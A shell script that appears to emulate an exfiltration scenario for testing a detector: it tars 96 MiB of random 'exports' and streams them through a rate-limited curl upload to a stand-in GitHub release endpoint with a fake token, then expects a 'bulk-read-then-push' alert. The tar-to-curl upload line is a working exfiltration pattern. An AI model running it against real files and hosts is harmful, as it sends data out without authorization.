#!/bin/sh
# Emulates scenario pipeline-tar-to-curl-stdin (examples/scenarios/pipeline-tar-to-curl-stdin.yaml):
# Exports archived by tar into a pipe, uploaded from stdin by a rate-limited curl to a GitHub release.
#
# Safe version: 24 files of 4 MiB of random "exports" archived by tar to stdout and sent by curl from its
# stdin at 3 MiB/s to the in-namespace forge-api stand-in with a fake token. tar is curl's sibling (both
# children of the shell) and the pipe holds it to curl's pace: most of its reads come after push +
# pushSettleMs, and count because curl reads its payload from stdin.
#
# Image: curlimages/curl:8.11.1
# Expected alert: bulk-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl tar head
emu_check_target "$EMU_FORGE_URL"
work="$EMU_WORKDIR/pipeline-tar-to-curl-stdin"
rm -rf "$work"
for n in $(seq -w 1 24); do emu_big_file "$work/srv/exports/2024-$n.parquet" 4; done
# Random bytes do not compress: tar reads at the rate curl sends (about 32 s).
emu_log "archiving 96 MiB into curl's stdin at 3 MiB/s (about 32 s)"
tar czf - -C "$work/srv" exports | curl -fsS -o /dev/null --limit-rate 3M -T - \
  -H "Authorization: token ghp_FAKEEXAMPLETOKEN000000000000000000" \
  "$EMU_FORGE_URL/repos/rpt-drop/x/releases/41877/assets?name=e.tgz" ||
  emu_log "the upload ended with an error (the files were read and sent by then)"
rm -rf "$work"
emu_expect bulk-read-then-push high
